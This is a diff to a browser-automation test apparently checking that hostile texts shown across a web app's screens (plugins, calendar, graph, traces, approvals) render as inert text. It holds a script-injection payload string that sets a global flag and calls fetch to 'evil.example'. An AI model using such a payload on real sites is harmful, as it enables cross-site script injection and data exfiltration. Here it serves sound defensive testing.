@@ -1,7 +1,9 @@
+import type { Page } from 'playwright-core';
 import { expect, test } from 'vitest';
 import type { Tool } from '../../../../host/api/tool.ts';
 import { echoTool, memorySource } from '../../../kit/source.ts';
 import { launchBrowser, noBrowser, openTab } from '../../../kit/web/chromium.ts';
+import { sayingPlugin } from '../../../kit/web/saying-plugin.ts';
 import { servePage } from '../../../kit/web/served-page.ts';
 
 const act = 'globalThis.executed=1;fetch("https://evil.example/")';
@@ -101,7 +103,7 @@ const texts: readonly string[] = [
 
 /** Where each of them is shown. */
 const places =
-  'title description documentation origin parameter choice default arguments text link resource picture sound structured failure trace'.split(
+  'title description documentation origin parameter choice default arguments text link resource picture sound structured failure trace row calendar detail preview graph'.split(
     ' ',
   );
 
@@ -135,11 +137,27 @@ const sayingTool = (text: string, at: number): Tool =>
     },
   });
 
+/** The rows, one of them and what can be done to it, the calendar and the graph. */
+async function lookAtScreensOfPlugins(tab: Page): Promise<void> {
+  await tab.locator('nav a[href="/plugins/theirs/calendar"]').click();
+  await tab.getByRole('rowheader').nth(90).waitFor();
+  await tab.getByRole('button', { name: 'Calendar' }).click();
+  await tab.getByText(/^and \d+ more$/).waitFor();
+  await tab.getByRole('button', { name: 'List' }).click();
+  await tab.getByRole('rowheader').getByRole('link').nth(20).click();
+  await tab.locator('article .acts button').click();
+  await tab.locator('form.ask li').nth(45).waitFor();
+  await tab.locator('nav a[href="/plugins/theirs/graph"]').click();
+  await tab.getByRole('button', { name: 'Graph', exact: true }).click();
+  await tab.locator('canvas[data-placed=true]').waitFor();
+}
+
 test('500 hostile texts, wherever a text of somebody else is shown, are texts', async (context) => {
   if (noBrowser !== undefined) return context.skip(noBrowser);
   const shown = texts.length * places.length;
   expect(shown).toBeGreaterThanOrEqual(500);
   await using page = await servePage({
+    ...sayingPlugin(texts),
     'spaces/work/agent/tools/broken.md': `---\n${JSON.stringify({ id: texts[0], [texts[1]!]: texts[2] })}\n---\n`,
   });
   await using _source = await page.host.registry.add(
@@ -173,10 +191,11 @@ test('500 hostile texts, wherever a text of somebody else is shown, are texts', 
     await tab.getByRole('button', { name: 'Markdown' }).click();
   }
   await expect.poll(() => tab.evaluate(() => document.querySelectorAll('article').length)).toBe(1);
-  for (const path of ['/', '/trace', '/approvals']) {
+  for (const path of ['/', '/manifests', '/trace', '/approvals']) {
     await tab.locator(`nav a[href="${path}"]`).click();
     await tab.locator('h1').first().waitFor();
   }
+  await lookAtScreensOfPlugins(tab);
   const seen = await tab.evaluate(() => {
     const { longest, reports, executed } = globalThis as unknown as {
       readonly longest: number;
